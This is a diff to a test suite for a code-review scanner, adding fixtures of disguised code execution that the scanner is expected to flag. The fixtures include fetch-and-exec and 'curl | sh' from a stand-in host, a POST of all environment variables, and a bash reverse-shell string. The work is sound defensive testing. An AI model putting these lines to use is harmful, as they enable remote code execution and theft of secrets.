@@ -92,6 +92,32 @@ def test_what_tools_run_by_its_name_is_searched(
     assert (found, verdict.verdict) == (set(head), "needs_changes")
 
 
+ROUNDABOUT = {
+    "alias.py": "import base64\nrun = exec\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
+    "letters.py": "exec(''.join(map(chr, [112, 114, 105])))\n",
+    "xor.py": "exec(bytes(b ^ 7 for b in b'wuni').decode())\n",
+    "answer.py": "import requests\nr = requests.get('https://192.0.2.1/x', timeout=3)\nexec(r.text)\n",
+    "compiled.py": "import zlib\nx = zlib.decompress(b'x')\nexec(compile(x, 'a', 'exec'))\n",
+    "pickled.py": "import base64, pickle\npickle.loads(base64.b64decode('gASVAAAA'))\n",
+    "client.py": "import http.client, json, os\nc = http.client.HTTPSConnection('192.0.2.1')\n"
+    "c.request('POST', '/', json.dumps(dict(os.environ)))\n",
+    "then.test.js": "fetch('https://192.0.2.1/x').then((r) => r.text()).then(eval);\n",
+    "arrow.test.js": "fetch('https://192.0.2.1/x').then((r) => r.text()).then((t) => eval(t));\n",
+    "call.php": "<?php\ncall_user_func('sys' . 'tem', base64_decode('aWQ='));\n",
+    ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
+    "      - run: curl http://192.0.2.1/x | sh\n",
+}
+
+
+@pytest.mark.attack("hidden code that is run under another name or in two steps")
+@pytest.mark.parametrize("place", ["tests", "examples"])
+def test_code_that_is_run_in_a_roundabout_way_is_found(tmp_path: Path, place: str) -> None:
+    head = {f"{place}/{path}": text for path, text in ROUNDABOUT.items()}
+    verdict = run_review(options(change(tmp_path, {}, head).path), ignore_event)
+    found = {finding.path for finding in verdict.findings if finding.rule in FAMILY}
+    assert found == set(head)
+
+
 def test_ordinary_tests_may_hold_such_text_as_data(tmp_path: Path) -> None:
     head = {
         "tests/test_a.py": "def test_a():\n"
@@ -99,6 +125,13 @@ def test_ordinary_tests_may_hold_such_text_as_data(tmp_path: Path) -> None:
         "    assert parse(line) == base64.b64decode('YQ==')\n"
         "    exec(compile(source, 'a', 'exec'), names)\n"
         "    assert call('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')\n",
+        "tests/test_b.py": "import pickle\n\n\ndef test_b():\n"
+        "    r = client.get('/a')\n"
+        "    letters = list(map(chr, [97]))\n"
+        "    assert pickle.loads(pickle.dumps(r.text)) == letters\n"
+        "    module.system = os.system\n"
+        "    client.request('GET', os.environ['URL'])\n",
+        "tests/a.test.js": "fetch('/a').then((r) => r.text()).then(show);\n",
         "tests/data/a.b64": "aW1wb3J0IG9z\n",
         "examples/api.py": "import os\nimport requests\n\n"
         "token = os.environ['GITHUB_TOKEN']\n"
